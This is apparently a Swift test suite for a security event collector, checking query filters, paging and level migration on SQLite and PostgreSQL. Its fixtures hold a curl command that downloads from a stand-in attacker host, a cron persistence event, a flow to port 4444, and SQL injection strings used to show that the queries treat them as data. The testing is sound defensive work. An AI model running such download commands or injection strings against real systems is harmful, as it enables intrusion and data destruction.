import Foundation
import Logging
import Testing
import VigilCore
import VigilTestSupport
import VigilWire

@testable import VigilCollector

/// The query filters of `GET /v1/events` and `GET /v1/alerts` (level, min_level, field) against
/// both stores, parsed as the routes parse them.
@Suite("Query filters")
struct QueryFilterTests {
    static let t0: Int64 = 1_795_870_800 * 1_000_000_000
    static func at(_ minutes: Int64) -> Timestamp { Timestamp(nanosecondsSinceEpoch: t0 + minutes * 60_000_000_000) }

    static let curl = ProcessEvent(
        action: .exec,
        processId: 100,
        image: "/usr/bin/curl",
        commandLine: "curl -o /tmp/x http://evil.example/x",
        user: "www-data"
    )
    static let wget = ProcessEvent(action: .exec, processId: 101, image: "/usr/bin/wget", user: "root")
    static let cronFile = FileEvent(action: .create, targetFilename: "/etc/cron.d/x", image: "/usr/bin/curl")
    static let flow = FlowEvent(
        ts: 1,
        duration: 0.5,
        proto: "tcp",
        origH: "10.0.0.1",
        origP: 40000,
        respH: "203.0.113.9",
        respP: 4444
    )
    static let sqlTitle = "x'); DROP TABLE events; --"

    /// What agent A sends, by seq (1-10), and agent B (1-2). Seqs of A:
    /// 1 curl, 2 wget, 3 cron file by curl, 4 flow to 4444, 5 high alert on curl (t1105),
    /// 6 critical alert on the cron file, 7 low alert without event, 8 "High" alert (upper case)
    /// on wget, 9 informational alert with an SQL-looking title, 10 health.
    static func payloadsA() -> [[Event.Payload]] {
        [
            [.process(curl), .process(wget), .file(cronFile), .flow(flow)],
            [
                .alert(
                    Alert(
                        ruleId: "R1",
                        title: "Download tool",
                        level: "high",
                        tags: ["attack.command-and-control", "attack.t1105"],
                        event: Event(seq: 1, time: at(0), payload: .process(curl))
                    )
                ),
                .alert(
                    Alert(
                        ruleId: "R2",
                        title: "Cron persistence",
                        level: "critical",
                        tags: ["attack.persistence", "attack.t1053.003"],
                        event: Event(seq: 3, time: at(0), payload: .file(cronFile))
                    )
                ),
                .alert(Alert(ruleId: "R3", title: "Quiet", level: "low")),
            ],
            [
                .alert(
                    Alert(
                        ruleId: "R4",
                        title: "Shouting",
                        level: "High",
                        tags: ["attack.t1105"],
                        event: Event(seq: 2, time: at(0), payload: .process(wget))
                    )
                ),
                .alert(Alert(ruleId: "R5", title: sqlTitle, level: "informational", tags: ["x') OR 1=1 --"])),
                .health(AgentHealth(kind: "started", message: "up")),
            ],
        ]
    }

    /// Two agents' events stored in `f`; returns (A, B) agent ids. A's batches are at minutes 0,
    /// 10 and 20, B's (a medium alert on curl, then a process event) at minute 30.
    static func load(_ f: CollectorFixture) async throws -> (String, String) {
        var a = AgentStream()
        var b = AgentStream()
        try await f.enroll(a.identity)
        try await f.enroll(b.identity)
        for (i, payloads) in payloadsA().enumerated() {
            #expect(try await f.collector.receive(batch: a.next(at: at(Int64(i) * 10), payloads)).status == "accepted")
        }
        let bAlert = Alert(
            ruleId: "R1",
            title: "Download tool",
            level: "medium",
            tags: ["attack.t1105"],
            event: Event(seq: 9, time: at(30), payload: .process(curl))
        )
        #expect(
            try await f.collector.receive(batch: b.next(at: at(30), [.alert(bAlert), .process(curl)])).status
                == "accepted"
        )
        return (a.identity.agentId, b.identity.agentId)
    }

    /// The query the routes would build from these parameters.
    static func query(_ pairs: [(String, String)], alertsOnly: Bool = false) throws -> EventQuery {
        try EventQuery.parse(pairs.map { (key: $0.0, value: $0.1) }, maxLimit: 10_000, alertsOnly: alertsOnly)
    }

    /// "A3"-style labels (agent A or B, seq) of what the query matches, as a set.
    static func matches(
        _ f: CollectorFixture,
        _ ids: (String, String),
        _ pairs: [(String, String)]
    ) async throws -> Set<String> {
        let events = try await f.store.events(try query(pairs + [("limit", "10000")]))
        return Set(events.map { ($0.agentId == ids.0 ? "A" : "B") + String($0.event.seq) })
    }

    @Test("level and min_level select alerts by level; stored levels are lower-cased", arguments: Backend.allCases)
    func levels(backend: Backend) async throws {
        try await withCollector(backend) { f in
            let ids = try await Self.load(f)
            #expect(try await Self.matches(f, ids, [("level", "high")]) == ["A5", "A8"])
            #expect(try await Self.matches(f, ids, [("level", "critical,low")]) == ["A6", "A7"])
            #expect(try await Self.matches(f, ids, [("min_level", "medium")]) == ["A5", "A6", "A8", "B1"])
            #expect(try await Self.matches(f, ids, [("min_level", "informational")]).count == 6)
            #expect(try await Self.matches(f, ids, [("level", "low,high"), ("min_level", "medium")]) == ["A5", "A8"])
            #expect(try await Self.matches(f, ids, [("level", "low"), ("min_level", "high")]).isEmpty)
            // A level leaves out every event that is not an alert.
            #expect(try await Self.matches(f, ids, [("level", "high"), ("type", "process")]).isEmpty)
            #expect(try await Self.matches(f, ids, [("level", "high"), ("agent", ids.1)]).isEmpty)
            #expect(try await Self.matches(f, ids, [("level", "medium"), ("agent", ids.1)]) == ["B1"])
        }
    }

    @Test("field filters compare exactly, AND together, and match alerts on their event", arguments: Backend.allCases)
    func fields(backend: Backend) async throws {
        try await withCollector(backend) { f in
            let ids = try await Self.load(f)
            #expect(
                try await Self.matches(f, ids, [("field", "process.Image:/usr/bin/curl")]) == ["A1", "A5", "B1", "B2"]
            )
            // Names are case-insensitive, values are not.
            #expect(
                try await Self.matches(f, ids, [("field", "PROCESS.image:/usr/bin/curl"), ("type", "process")])
                    == ["A1", "B2"]
            )
            #expect(try await Self.matches(f, ids, [("field", "process.Image:/usr/bin/CURL")]).isEmpty)
            #expect(try await Self.matches(f, ids, [("field", "process.Image:/usr/bin/cur")]).isEmpty)
            // Several fields: all must hold.
            #expect(
                try await Self.matches(
                    f,
                    ids,
                    [("field", "process.Image:/usr/bin/curl"), ("field", "process.User:www-data"), ("agent", ids.0)]
                ) == ["A1", "A5"]
            )
            #expect(
                try await Self.matches(
                    f,
                    ids,
                    [("field", "process.Image:/usr/bin/curl"), ("field", "process.User:root")]
                )
                .isEmpty
            )
            // Values with colons (split at the first one) and integers.
            #expect(
                try await Self.matches(f, ids, [("field", "process.CommandLine:curl -o /tmp/x http://evil.example/x")])
                    == ["A1", "A5", "B1", "B2"]
            )
            #expect(try await Self.matches(f, ids, [("field", "flow.resp_p:4444")]) == ["A4"])
            #expect(try await Self.matches(f, ids, [("field", "flow.resp_p:443")]).isEmpty)
            #expect(try await Self.matches(f, ids, [("field", "flow.resp_h:203.0.113.9")]) == ["A4"])
            #expect(try await Self.matches(f, ids, [("field", "process.ProcessId:101")]) == ["A2", "A8"])
            #expect(try await Self.matches(f, ids, [("field", "file.Image:/usr/bin/curl")]) == ["A3", "A6"])
            #expect(try await Self.matches(f, ids, [("field", "file.TargetFilename:/etc/cron.d/x")]) == ["A3", "A6"])
            // Alert fields: tags (one of them), title.
            #expect(try await Self.matches(f, ids, [("field", "alert.tags:attack.t1105")]) == ["A5", "A8", "B1"])
            #expect(try await Self.matches(f, ids, [("field", "alert.tags:attack")]).isEmpty)
            #expect(try await Self.matches(f, ids, [("field", "alert.title:Download tool")]) == ["A5", "B1"])
            #expect(try await Self.matches(f, ids, [("field", "health.kind:started")]) == ["A10"])
            // With level and time range.
            #expect(
                try await Self.matches(
                    f,
                    ids,
                    [("field", "alert.tags:attack.t1105"), ("min_level", "high"), ("since", "1795871700")]
                ) == ["A8"]
            )
        }
    }

    @Test("SQL-looking values are data: they match exactly what was stored, nothing else", arguments: Backend.allCases)
    func sqlLookingValues(backend: Backend) async throws {
        try await withCollector(backend) { f in
            let ids = try await Self.load(f)
            for value in [
                "' OR '1'='1", "x' OR 1=1 --", "\") OR 1=1 --", "$1", "%", "_", "*", "'); DROP TABLE events; --",
            ] {
                #expect(try await Self.matches(f, ids, [("field", "process.Image:\(value)")]).isEmpty, "\(value)")
                #expect(try await Self.matches(f, ids, [("field", "alert.tags:\(value)")]).isEmpty, "\(value)")
                #expect(try await Self.matches(f, ids, [("field", "alert.title:\(value)")]).isEmpty, "\(value)")
            }
            #expect(try await Self.matches(f, ids, [("field", "alert.title:\(Self.sqlTitle)")]) == ["A9"])
            #expect(try await Self.matches(f, ids, [("field", "alert.tags:x') OR 1=1 --")]) == ["A9"])
            // The store is intact.
            #expect(try await f.store.events(EventQuery(limit: 100)).count == 12)
        }
    }

    @Test("alerts: only alerts, flattened, with the same filters and cursor paging", arguments: Backend.allCases)
    func alerts(backend: Backend) async throws {
        try await withCollector(backend) { f in
            let ids = try await Self.load(f)
            let all = try await f.store.alerts(try Self.query([("limit", "100")], alertsOnly: true))
            #expect(all.map { "\($0.agentId == ids.0 ? "A" : "B")\($0.seq)" } == ["A5", "A6", "A7", "A8", "A9", "B1"])
            let first = try #require(all.first)
            #expect(first.ruleId == "R1" && first.title == "Download tool" && first.level == "high")
            #expect(first.tags == ["attack.command-and-control", "attack.t1105"])
            #expect(first.techniques == ["T1105"])
            #expect(first.time == Self.at(10))
            #expect(first.event?.payload == .process(Self.curl))
            #expect(all[1].techniques == ["T1053.003"])
            #expect(all[2].event == nil && all[2].tags.isEmpty)

            // Paging, two at a time, with filters: the pages add up to the whole answer.
            for filters in [
                [(String, String)](), [("min_level", "medium")], [("field", "alert.tags:attack.t1105")],
                [("field", "process.Image:/usr/bin/curl"), ("level", "high,medium")],
            ] {
                let whole = try await f.store.alerts(try Self.query(filters + [("limit", "100")], alertsOnly: true))
                var paged: [StoredAlert] = []
                var cursor: Int64? = nil
                while true {
                    var pairs = filters + [("limit", "2")]
                    if let cursor { pairs.append(("after", String(cursor))) }
                    let page = try await f.store.alerts(try Self.query(pairs, alertsOnly: true))
                    #expect(page.count <= 2)
                    paged += page
                    guard page.count == 2, let last = page.last else { break }
                    cursor = last.id
                }
                #expect(paged == whole, "\(filters)")
                #expect(!whole.isEmpty, "\(filters)")
            }
            #expect(
                try await f.store.alerts(
                    try Self.query(
                        [("field", "process.Image:/usr/bin/curl"), ("level", "high,medium")],
                        alertsOnly: true
                    )
                ).map(\.ruleId) == ["R1", "R1"]
            )

            // Events paging with a field filter crosses agents and batches too.
            let curlPairs = [("field", "process.Image:/usr/bin/curl")]
            let page1 = try await f.store.events(try Self.query(curlPairs + [("limit", "3")]))
            let page2 = try await f.store.events(
                try Self.query(curlPairs + [("limit", "3"), ("after", String(page1.last!.id))])
            )
            #expect(page1.count == 3 && page2.count == 1)
            #expect(Set((page1 + page2).map(\.id)).count == 4)
        }
    }

    /// "A3"-style labels of stored events, in order.
    static func labels(_ events: [StoredEvent], _ ids: (String, String)) -> [String] {
        events.map { ($0.agentId == ids.0 ? "A" : "B") + String($0.event.seq) }
    }

    /// Every page of `pairs` through `Collector.page` (the routes' paging), `limit` at a time,
    /// following `next_cursor` with the cursor of the query's order.
    static func pages(
        _ f: CollectorFixture,
        _ pairs: [(String, String)],
        limit: Int,
        alertsOnly: Bool = false
    ) async throws -> [[StoredEvent]] {
        let cursorName = pairs.contains { $0 == ("order", "desc") } ? "before" : "after"
        var pages: [[StoredEvent]] = []
        var cursor: Int64? = nil
        for _ in 0..<100 {
            var page = pairs + [("limit", String(limit))]
            if let cursor { page.append((cursorName, String(cursor))) }
            let got = try await f.collector.page(try query(page, alertsOnly: alertsOnly))
            #expect(got.events.count <= limit)
            pages.append(got.events)
            guard let next = got.nextCursor else { return pages }
            #expect(got.events.count == limit, "a short page with a cursor while nothing is in flight")
            cursor = next
        }
        Issue.record("paging did not end")
        return pages
    }

    @Test("order=desc: newest first, paged with before, the same sets as ascending", arguments: Backend.allCases)
    func newestFirst(backend: Backend) async throws {
        try await withCollector(backend) { f in
            let ids = try await Self.load(f)
            // Exact answers, across pages of two, with filters.
            let expected: [([(String, String)], [String])] = [
                ([], ["B2", "B1", "A10", "A9", "A8", "A7", "A6", "A5", "A4", "A3", "A2", "A1"]),
                ([("type", "alert"), ("min_level", "medium")], ["B1", "A8", "A6", "A5"]),
                ([("field", "process.Image:/usr/bin/curl")], ["B2", "B1", "A5", "A1"]),
                ([("agent", ids.0), ("type", "process,flow")], ["A4", "A2", "A1"]),
                ([("field", "alert.tags:attack.t1105"), ("level", "high")], ["A8", "A5"]),
                ([("type", "gap")], []),
            ]
            for (filters, newest) in expected {
                let desc = try await Self.pages(f, filters + [("order", "desc")], limit: 2)
                #expect(Self.labels(desc.flatMap { $0 }, ids) == newest, "\(filters)")
                #expect(desc.count == max(1, (newest.count + 1) / 2 + (newest.count % 2 == 0 ? 1 : 0)))
                let asc = try await Self.pages(f, filters + [("order", "asc")], limit: 2)
                #expect(Self.labels(asc.flatMap { $0 }, ids) == newest.reversed(), "\(filters)")
                let storageIds = desc.flatMap { $0 }.map(\.id)
                #expect(storageIds == storageIds.sorted(by: >) && Set(storageIds).count == storageIds.count)
            }
            // Alerts, through the alerts query, with a cursor in the middle: only older ones.
            let all = try await Self.pages(f, [("order", "desc")], limit: 100, alertsOnly: true).flatMap { $0 }
            #expect(Self.labels(all, ids) == ["B1", "A9", "A8", "A7", "A6", "A5"])
            let below = try await f.store.alerts(
                try Self.query([("order", "desc"), ("before", String(all[2].id)), ("limit", "2")], alertsOnly: true)
            )
            #expect(below.map { ($0.agentId == ids.0 ? "A" : "B") + String($0.seq) } == ["A7", "A6"])
            // The dashboard asks for the newest alerts, whatever their age.
            let newest3 = try await Dashboard.recentAlerts(f.store, count: 3)
            #expect(Self.labels(newest3, ids) == ["B1", "A9", "A8"])
            let newest50 = try await Dashboard.recentAlerts(f.store, count: 50)
            #expect(Self.labels(newest50, ids) == Self.labels(all, ids))
        }
    }

    @Test("bad filters are refused with a message that names the parameter")
    func refusals() throws {
        func refusal(_ pairs: [(String, String)], alertsOnly: Bool = false) -> String? {
            do {
                _ = try Self.query(pairs, alertsOnly: alertsOnly)
                return nil
            } catch {
                return "\(error)"
            }
        }
        let unknown = try #require(refusal([("field", "process.colour:red")]))
        #expect(unknown.hasPrefix("field: unknown field 'process.colour'; known: process.Image, "))
        #expect(unknown.contains("flow.resp_p") && unknown.contains("alert.tags"))
        #expect(refusal([("field", "process.Image")])?.hasPrefix("field: 'process.Image' is not NAME:VALUE") == true)
        #expect(refusal([("field", "process.Image:")])?.hasPrefix("field: the value of process.Image") == true)
        #expect(
            refusal([("field", "flow.resp_p:http")])
                == "field: flow.resp_p is an integer field; 'http' is not an integer"
        )
        #expect(refusal([("field", "flow.resp_p:1 OR 1=1")])?.hasPrefix("field: flow.resp_p is an integer") == true)
        #expect(
            refusal([("field", "process.Image:" + String(repeating: "a", count: 1025))])?.hasPrefix("field:") == true
        )
        #expect(
            refusal(Array(repeating: ("field", "process.Image:x"), count: 9))?.hasPrefix("field: at most 8") == true
        )
        #expect(refusal(Array(repeating: ("field", "process.Image:x"), count: 8)) == nil)
        #expect(
            refusal([("level", "severe")])
                == "level: 'severe' is not one of informational, low, medium, high, critical"
        )
        #expect(refusal([("level", "high,")])?.hasPrefix("level: '' is not one of") == true)
        #expect(refusal([("level", "HIGH")])?.hasPrefix("level: 'HIGH' is not one of") == true)
        #expect(refusal([("min_level", "high,critical")])?.hasPrefix("min_level: 'high,critical'") == true)
        #expect(
            refusal([("type", "file")], alertsOnly: true)?.hasPrefix("type: this route returns alerts only") == true
        )
        #expect(refusal([("type", "alert")], alertsOnly: true)?.hasPrefix("type:") == true)
        #expect(refusal([("fields", "process.Image:x")])?.hasPrefix("unknown query parameter 'fields'") == true)
        // Order and its cursors: each order pages with its own cursor; the other is refused.
        #expect(refusal([("order", "sideways")]) == "order: 'sideways' is not asc or desc")
        #expect(refusal([("order", "DESC")])?.hasPrefix("order:") == true)
        #expect(refusal([("before", "5")])?.hasPrefix("before: only with order=desc") == true)
        #expect(refusal([("order", "asc"), ("before", "5")])?.hasPrefix("before: only with order=desc") == true)
        #expect(
            refusal([("order", "desc"), ("after", "5")])?.hasPrefix("after: order=desc pages with before=") == true
        )
        #expect(refusal([("after", "5"), ("order", "desc")], alertsOnly: true)?.hasPrefix("after:") == true)
        #expect(refusal([("order", "desc"), ("before", "-1")]) == "before: must be a non-negative integer cursor")
        #expect(refusal([("order", "desc"), ("before", "x")])?.hasPrefix("before:") == true)
        #expect(refusal([("order", "desc"), ("before", "99999999999999999999")])?.hasPrefix("before:") == true)
        let desc = try Self.query([("order", "desc"), ("before", "7")], alertsOnly: true)
        #expect(desc.order == .desc && desc.before == 7 && desc.after == nil)
        #expect(try Self.query([("after", "3")]).order == .asc)

        let q = try Self.query([("level", "critical,low,critical"), ("field", "Flow.Resp_P:0443")], alertsOnly: true)
        #expect(q.types == [.alert])
        #expect(q.levels == [.low, .critical])
        #expect(q.fields.map(\.description) == ["flow.resp_p:443"])
        // Without a level parameter there is no level filter; a repeated level counts once.
        #expect(try Self.query([]).levels == nil)
        #expect(try Self.query([("level", "low"), ("level", "high")]).levels == [.low])
    }

    /// An INSERT of events as a collector before alert levels stored them (the same SQL for
    /// both engines): a process event and alerts of levels High, low and critical (R1-R3), the
    /// last with a NUL in its title (JSON `\u0000`, which jsonb refuses).
    static func oldEventsInsert() throws -> String {
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.sortedKeys]
        let events: [Event] = [
            Event(seq: 1, time: Self.at(0), payload: .process(Self.curl)),
            Event(seq: 2, time: Self.at(0), payload: .alert(Alert(ruleId: "R1", title: "a", level: "High"))),
            Event(seq: 3, time: Self.at(0), payload: .alert(Alert(ruleId: "R2", title: "b", level: "low"))),
            Event(
                seq: 4,
                time: Self.at(0),
                payload: .alert(Alert(ruleId: "R3", title: "nul \u{0} here", level: "critical"))
            ),
        ]
        var rows: [String] = []
        for event in events {
            let json = String(decoding: try encoder.encode(event), as: UTF8.self)
                .replacingOccurrences(of: "'", with: "''")
            let rule: String =
                if case .alert(let alert) = event.payload { "'\(alert.ruleId)'" } else { "NULL" }
            rows.append(
                "('old-agent', \(event.seq), 1, '\(event.type.rawValue)', \(event.time.nanosecondsSinceEpoch), \(rule), '\(json)')"
            )
        }
        return "INSERT INTO events (agent_id, seq, batch_seq, type, time_ns, rule_id, json) VALUES "
            + rows.joined(separator: ", ")
    }

    /// What a store migrated from before alert levels answers about `oldEventsInsert`'s events.
    static func expectBackfilled(_ store: any EventStore) async throws {
        #expect(try await store.alerts(try query([("min_level", "high")])).map(\.ruleId) == ["R1", "R3"])
        #expect(try await store.alerts(try query([("level", "low")])).map(\.ruleId) == ["R2"])
        #expect(try await store.events(try query([("level", "high,low,critical")])).map(\.event.seq) == [2, 3, 4])
        // Field lookups read rows with a NUL too.
        #expect(try await store.events(try query([("field", "alert.title:b")])).map(\.event.seq) == [3])
        #expect(try await store.events(try query([("field", "process.Image:/usr/bin/curl")])).map(\.event.seq) == [1])
    }

    @Test("an SQLite store from before alert levels gets its alerts' levels from their JSON")
    func sqliteBackfill() async throws {
        let dir = NSTemporaryDirectory() + "vigil-level-migration-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let path = dir + "/events.sqlite"
        do {
            let old = try SQLiteEventStore(path: path, migratingUpTo: "v4-retention")
            try await old.executeRaw(try Self.oldEventsInsert())
            try await old.close()
        }
        let store = try SQLiteEventStore(path: path)
        try await Self.expectBackfilled(store)
        // New alerts get theirs on ingest.
        let f = CollectorFixture(store: store, location: .sqlite(path: path))
        var c = AgentStream()
        try await f.enroll(c.identity)
        let alert = Alert(ruleId: "R9", title: "new", level: "critical")
        #expect(try await f.collector.receive(batch: c.next(at: Self.at(40), [.alert(alert)])).status == "accepted")
        #expect(try await store.alerts(try Self.query([("level", "critical")])).map(\.ruleId) == ["R3", "R9"])
        try await store.close()
    }

    @Test("a PostgreSQL store from before alert levels gets its alerts' levels from their JSON")
    func postgresBackfill() async throws {
        try await withOlderPostgresStore(atVersion: 4, rows: [try Self.oldEventsInsert()]) { store, _ in
            try await Self.expectBackfilled(store)
        } afterwards: { database in
            let newest = try await database.run("SELECT max(version) FROM schema_migrations")
            #expect(newest == String(PostgresEventStore.migrations.map(\.version).max() ?? 0))
        }
    }
}
